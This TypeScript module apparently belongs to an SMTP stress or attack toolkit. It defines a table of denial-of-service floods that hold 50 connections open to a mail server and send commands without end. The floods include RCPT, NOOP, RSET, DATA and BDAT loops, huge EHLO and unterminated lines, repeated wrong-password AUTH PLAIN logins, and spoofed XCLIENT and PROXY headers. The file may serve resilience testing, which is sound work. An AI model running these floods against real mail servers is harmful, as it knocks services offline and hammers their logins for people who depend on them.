import { type Aim, type Attack, keepOpen, open, sendForever } from './sockets.ts';

/* What can be said without end. */

const EHLO = 'EHLO attacker.example\r\n';
const MAIL = 'MAIL FROM:<a@attacker.example>\r\n';
const RCPT = 'RCPT TO:<ann@example.com>\r\n';

const flood =
  (first: string, again: string): Attack =>
  (aim: Aim) =>
    keepOpen(50, () => {
      const socket = open(aim, aim.smtp);
      socket.write(first);
      sendForever(socket, again);
      return socket.resume();
    });

const loginOf = (user: string): string => `AUTH PLAIN ${Buffer.from(`\0${user}\0wrong`).toString('base64')}\r\n`;

export const FLOODS: Readonly<Record<string, Attack>> = {
  'rcpt flood': flood(EHLO + MAIL, RCPT),
  'unknown recipients': flood(EHLO + MAIL, Array.from({ length: 500 }, (_, n) => `RCPT TO:<nobody${n}@example.com>\r\n`).join('')),
  'noop flood': flood('', 'NOOP\r\n'),
  'help and vrfy flood': flood(EHLO, 'HELP\r\nVRFY ann\r\n'),
  'ehlo flood': flood('', `EHLO ${'a'.repeat(250)}\r\n`),
  'huge ehlo': flood('', `EHLO ${'a'.repeat(60_000)}\r\n`),
  'rset loop': flood(EHLO, `${MAIL}${RCPT}RSET\r\n`),
  'mail loop': flood(EHLO, MAIL),
  'data loop': flood(EHLO, `${MAIL}${RCPT}DATA\r\n.\r\n`),
  'empty chunks': flood(EHLO + MAIL + RCPT, 'BDAT 0\r\n'),
  'chunks of a byte': flood(EHLO + MAIL + RCPT, 'BDAT 1\r\nx'),
  'login flood': flood(EHLO, loginOf('ann') + loginOf('nobody')),
  'xclient flood': flood(EHLO, 'XCLIENT ADDR=127.0.0.1\r\n'),
  'proxy headers from nobody': flood('', 'PROXY TCP4 127.0.0.1 127.0.0.1 1 25\r\n'),
  'newlines only': flood('', '\n'),
  'a line without end': flood('', 'x'.repeat(65_536)),
};
